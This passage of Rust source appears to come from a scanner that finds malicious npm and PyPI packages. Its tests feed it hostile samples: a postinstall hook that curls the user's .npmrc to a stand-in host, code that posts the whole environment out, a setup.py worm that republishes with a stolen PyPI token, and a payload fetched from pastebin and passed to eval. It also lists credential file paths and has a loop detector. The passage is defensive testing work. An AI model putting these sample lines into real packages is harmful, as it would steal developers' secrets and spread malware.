  const body = JSON.stringify({ env: process.env, host: require('os').hostname() });
  require('https').request({ host: 'c.example', method: 'POST' }).end(body);
}
module.exports = report;",
        )];
        let found = exfiltration_findings(&files);
        assert_eq!(found.len(), 1, "{found:?}");
    }

    #[test]
    fn install_script_uploading_npmrc_with_curl_is_malware() {
        let files = [(
            "package.json",
            r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"curl -s -d @$HOME/.npmrc https://c.example/x"}}"#,
        )];
        assert!(blocked(&files));
    }

    fn pypi_detections(files: &[(&str, &str)]) -> Vec<(Technique, bool)> {
        let tree = ferret_source::from_files(
            "t",
            files
                .iter()
                .map(|(p, d)| ((*p).to_owned(), d.as_bytes().to_vec()))
                .collect(),
        );
        let facts = crate::engine::build_facts(&tree, ferret_core::Ecosystem::PyPI);
        detect(&facts)
            .into_iter()
            .map(|d| (d.technique, d.malicious))
            .collect()
    }

    #[test]
    fn setup_py_publish_helper_is_not_a_worm() {
        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
        // requests-oauthlib / requests-toolbelt: the maintainer's release helper.
        let helper = "import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist upload')\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup(name='d')\n";
        let found = pypi_detections(&[pkg_info, ("setup.py", helper)]);
        assert!(
            !found.iter().any(|(t, _)| *t == Technique::SelfPropagation),
            "{found:?}"
        );
        // The worm: uploads with the victim's PyPI token at install time.
        let worm = "import os\nfrom setuptools import setup\ntok = os.environ.get('PYPI_TOKEN')\nos.system('twine upload -u __token__ -p ' + tok + ' /tmp/w/dist/*')\nsetup(name='d')\n";
        let found = pypi_detections(&[pkg_info, ("setup.py", worm)]);
        assert!(
            found.contains(&(Technique::SelfPropagation, true)),
            "{found:?}"
        );
        // npm publishing from Python install-time code is still the npm worm.
        let npm = "import subprocess\nsubprocess.run('npm publish --access public', shell=True)\n";
        let found = pypi_detections(&[pkg_info, ("setup.py", npm)]);
        assert!(
            found.contains(&(Technique::SelfPropagation, true)),
            "{found:?}"
        );
    }

    #[test]
    fn python_modules_imported_at_install_run_only_their_top_level() {
        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
        let setup = (
            "setup.py",
            "import d.build\nimport d.ipc\nfrom setuptools import setup\nsetup(name='d')\n",
        );
        let cross = |found: &[(Technique, bool)]| found.contains(&(Technique::Exfiltration, true));
        // mypy: the environment handed to a worker in one function, a socket in another
        // module's method; neither runs when setup.py imports them.
        let build = (
            "d/build.py",
            "import os, subprocess\ndef worker():\n    return subprocess.Popen(['x'], env=dict(os.environ))\n",
        );
        let ipc = (
            "d/ipc.py",
            "import socket\nclass C:\n    def connect(self):\n        return socket.create_connection(('localhost', 1))\n",
        );
        let found = pypi_detections(&[pkg_info, setup, build, ipc]);
        assert!(!cross(&found), "{found:?}");
        // The same two modules doing it at import: that runs at install.
        let build = (
            "d/build.py",
            "import os, json\nDATA = json.dumps(dict(os.environ))\n",
        );
        let ipc = (
            "d/ipc.py",
            "import socket\nsocket.create_connection(('198.51.100.7', 443))\n",
        );
        let found = pypi_detections(&[pkg_info, setup, build, ipc]);
        assert!(cross(&found), "{found:?}");
    }

    #[test]
    fn python_download_exec_needs_the_download_and_the_exec_together() {
        let pkg_info = ("PKG-INFO", "Name: d\nVersion: 1\n");
        let dl =
            |found: &[(Technique, bool)]| found.iter().any(|(t, _)| *t == Technique::DownloadExec);
        // IPython's code magics: `%pastebin` posts to dpaste, `%load` evals elsewhere.
        let magics = "from urllib.request import urlopen, Request\nclass M:\n    def pastebin(self, code):\n        r = Request('https://dpaste.com/api/v2/', data=code)\n        return urlopen(r).read()\n    def load(self, args, ns):\n        return eval(args, ns)\n";
        let found = pypi_detections(&[pkg_info, ("d/magics.py", magics)]);
        assert!(!dl(&found), "{found:?}");
        // A second stage fetched from a paste site and run in one function is still caught.
        let stage = "from urllib.request import urlopen\ndef go():\n    eval(urlopen('https://pastebin.com/raw/Xy12Ab34').read())\ngo()\n";
        let found = pypi_detections(&[pkg_info, ("d/__init__.py", stage)]);
        assert!(
            found.contains(&(Technique::DownloadExec, true)),
            "{found:?}"
        );
    }

    #[test]
    fn credential_paths_and_env_names() {
        assert_eq!(
            credential_store("/home/u/.npmrc"),
            Some("npm token (.npmrc)")
        );
        assert_eq!(credential_store(".ssh"), Some("SSH keys"));
        assert_eq!(
            credential_store(".aws/credentials"),
            Some("AWS credentials")
        );
        assert_eq!(
            credential_store("Default/Login Data"),
            Some("browser saved passwords")
        );
        assert_eq!(credential_store("npmrc"), None);
        assert_eq!(credential_store("lib/config.js"), None);
        assert!(is_secret_env("NPM_TOKEN") && is_secret_env("AWS_SECRET_ACCESS_KEY"));
        assert!(!is_secret_env("HTTP_PROXY") && !is_secret_env("npm_config_registry"));
        assert!(!is_secret_env("CI") && !is_secret_env("DEBUG"));
    }
}

#[cfg(test)]
mod dump {
    #[test]
    #[ignore = "debug helper: dumps facts of $FERRET_DUMP"]
    fn dump_facts() {
        let dir = std::env::var("FERRET_DUMP").unwrap();
        let tree = ferret_source::open_dir(
            std::path::Path::new(&dir),
            &ferret_source::Limits::default(),
        )
        .unwrap();
        let facts = crate::engine::build_facts(&tree, ferret_core::Ecosystem::Npm);
        for d in super::detect(&facts) {
            println!(
                "DETECT {:?} mal={} {} :: {}",
                d.technique,
                d.malicious,
                d.summary,
                d.chain()
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Import-time infinite loops (a text pass: the JS facts do not carry loops).

/// Files larger than this are not scanned for top-level loops (bundles; linear anyway).
const LOOP_SCAN_MAX_BYTES: usize = 4 * 1024 * 1024;
/// Most loops reported per file.
const MAX_LOOPS: usize = 4;
/// Longest loop body looked at for an exit.
const MAX_LOOP_BODY: usize = 64 * 1024;

/// Loops at module top level (brace depth 0) that never end: `for (;;)`, `for (…; ; …)`,
/// `for (…; i < Infinity; …)`, `while (true|1|!0|!![])`, whose body has no `break`,
/// `return`, `throw`, `process.exit`, `await` or `yield`. A light lexer skips strings,
/// comments, templates and regex literals; linear in the file size.
pub fn top_level_infinite_loops(path: &str, source: &str) -> Vec<ferret_core::CodeSignal> {
    let b = source.as_bytes();
    let mut out = Vec::new();
    if b.len() > LOOP_SCAN_MAX_BYTES {
        return out;
    }
    // The scan below only reports where `infinite_loop_at` matches; almost no file has such
    // a header anywhere, and checking each `for`/`while` is far cheaper than the scan.
    let candidate = memchr::memmem::find_iter(b, b"for")
        .chain(memchr::memmem::find_iter(b, b"while"))
        .any(|p| (p == 0 || !is_ident(b[p - 1])) && infinite_loop_at(b, p).is_some());
    if !candidate {
        return out;
    }
    let mut index: Option<ferret_core::LineIndex> = None;
    let mut depth: u32 = 0;
    let mut prev: u8 = b';';
    let mut i = 0usize;
    while i < b.len() && out.len() < MAX_LOOPS {
        let c = b[i];
        let next = b.get(i + 1).copied().unwrap_or(0);
        match c {
            b'/' if next == b'/' => {
                i = memchr::memchr(b'\n', &b[i..]).map_or(b.len(), |p| i + p);
                continue;
            }
            b'/' if next == b'*' => {
                i = memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |p| i + 2 + p + 2);
                continue;
            }
            b'\'' | b'"' | b'`' => {
                i = skip_string(b, i);
                prev = b'a';
                continue;
            }
            b'/' if b";,=([{}:!&|?+-*%<>~^\n".contains(&prev) => {
                i = skip_regex(b, i);
                prev = b'a';
                continue;
            }
            b'{' => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            b'f' | b'w' if depth == 0 && (i == 0 || !is_ident(b[i - 1])) => {
                if let Some(end) = infinite_loop_at(b, i) {
                    let idx = index.get_or_insert_with(|| ferret_core::LineIndex::new(source));
                    let to_u32 = |n: usize| u32::try_from(n).unwrap_or(u32::MAX);
                    let span = ferret_core::Span::new(to_u32(i), to_u32(end));
                    out.push(ferret_core::CodeSignal {
                        location: idx.location(path, source, span),
                        code: idx.excerpt(source, span),
                    });
                }
            }
            _ => {}
        }
        if !c.is_ascii_whitespace() || c == b'\n' {
            prev = c;
        }
        i += 1;
    }
    out
}

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

fn skip_string(b: &[u8], start: usize) -> usize {
    let quote = b[start];
    let mut i = start + 1;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            c if c == quote => return i + 1,
            b'\n' if quote != b'`' => return i + 1,
            _ => i += 1,
        }
    }
    b.len()
}

fn skip_regex(b: &[u8], start: usize) -> usize {
    let mut i = start + 1;
    let mut class = false;
    while i < b.len() {
        match b[i] {
            b'\\' => i += 2,
            b'[' => {
                class = true;
                i += 1;
            }
            b']' => {
                class = false;
                i += 1;
            }
            b'/' if !class => return i + 1,
            b'\n' => return i,
            _ => i += 1,
        }
    }
    b.len()
}

/// The end of the loop header when an infinite loop starts at `i`.
fn infinite_loop_at(b: &[u8], i: usize) -> Option<usize> {
    let rest = &b[i..];
    let (kw, is_for) = if rest.starts_with(b"for") {
        (3, true)
    } else if rest.starts_with(b"while") {
        (5, false)
    } else {
        return None;
    };
    let mut j = i + kw;
    if b.get(j).is_some_and(|c| is_ident(*c)) {
        return None;
    }
    while b.get(j).is_some_and(u8::is_ascii_whitespace) {
        j += 1;
    }
    if b.get(j) != Some(&b'(') {
        return None;
    }
    let close = matching(b, j, b'(', b')', 4096)?;
    let header = std::str::from_utf8(&b[j + 1..close]).ok()?;
    // Every `for` and `while` of every file comes here: decide without allocating.
    fn compact(s: &str) -> impl Iterator<Item = char> + '_ {
        s.chars().filter(|c| !c.is_whitespace())
    }
    let endless = if is_for {
        let mut parts = header.split(';');
        match (parts.next(), parts.next(), parts.next(), parts.next()) {
            (Some(_), Some(test), Some(_), None) => {
                compact(test).next().is_none()
                    || compact(test).eq("true".chars())
                    || (test.contains("Infinity") && {
                        let test: String = compact(test).collect();
                        test.contains("<Infinity") || test.contains("<=Infinity")
                    })
            }
            _ => false,
        }
    } else {
        ["true", "1", "!0", "!![]", "!!1"]
            .iter()
            .any(|w| compact(header).eq(w.chars()))
    };
    if !endless {
        return None;
    }
    let mut k = close + 1;
    while b.get(k).is_some_and(u8::is_ascii_whitespace) {
        k += 1;
    }
    let body_end = if b.get(k) == Some(&b'{') {
        matching(b, k, b'{', b'}', MAX_LOOP_BODY)?
    } else {
        k + memchr::memchr(b';', &b[k..(k + 4096).min(b.len())])?
    };
    let body = String::from_utf8_lossy(&b[k..body_end]);
    let exits = ["break", "return", "throw", "process.exit", "await", "yield"];
    if exits.iter().any(|e| body.contains(e)) {
        return None;
    }
    Some(close + 1)
}

/// The index of the bracket closing the one at `open`, skipping strings; `None` past `max`.
fn matching(b: &[u8], open: usize, o: u8, c: u8, max: usize) -> Option<usize> {
    let mut depth = 0u32;
    let mut i = open;
    let end = (open + max).min(b.len());
    while i < end {
        match b[i] {
            q @ (b'\'' | b'"' | b'`') => {
                let _ = q;
                i = skip_string(b, i);
                continue;
            }
            x if x == o => depth += 1,
            x if x == c => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

#[cfg(test)]
mod loop_tests {
    use super::top_level_infinite_loops as loops;

    #[test]
    fn top_level_loops_without_exit() {
        assert_eq!(
            loops(
                "a.js",
                "for (let i = 666; i < Infinity; i++) { console.log(i); }"
            )
            .len(),
            1
        );
        assert_eq!(loops("a.js", "while (true) {}\n").len(), 1);
        assert_eq!(loops("a.js", "for(;;)x++;").len(), 1);
        // Inside a function, with an exit, or in a string/comment: not reported.
        assert!(loops("a.js", "function f() { while (true) {} }").is_empty());
        assert!(loops("a.js", "while (true) { if (x()) break; }").is_empty());
        assert!(loops("a.js", "const s = 'while (true) {}'; // for (;;) {}").is_empty());
        assert!(loops("a.js", "for (let i = 0; i < n; i++) {}").is_empty());
        assert!(loops("a.js", "const r = /{/; while (true) {}").len() == 1);
    }

    /// Through the engine, where the text check runs only when the parse saw a loop outside
    /// braces (or the file did not parse).
    #[test]
    fn engine_reports_top_level_loops_the_parse_saw() {
        let endless = |src: &str| {
            let tree = ferret_source::from_files("t", vec![("a.js".to_string(), src.into())]);
            let facts = crate::engine::build_facts(&tree, ferret_core::Ecosystem::Npm);
            (
                facts.files[0].top_level_loop,
                facts.files[0].signals.top_level_infinite_loops.len(),
            )
        };
        assert_eq!(endless("while (true) {}\n"), (true, 1));
        assert_eq!(endless("if (x) lbl: for (;;) x++;"), (true, 1));
        assert_eq!(endless("if (a) {} else while (1) {}"), (true, 1));
        assert_eq!(endless("for (const k of ks) {}"), (true, 0));
        assert_eq!(endless("function f() { while (true) {} }"), (false, 0));
        assert_eq!(endless("{ while (true) {} }"), (false, 0));
        // A file the parser rejects is still checked by the text scan.
        assert_eq!(endless("while (true) {} )))"), (false, 1));
    }
}
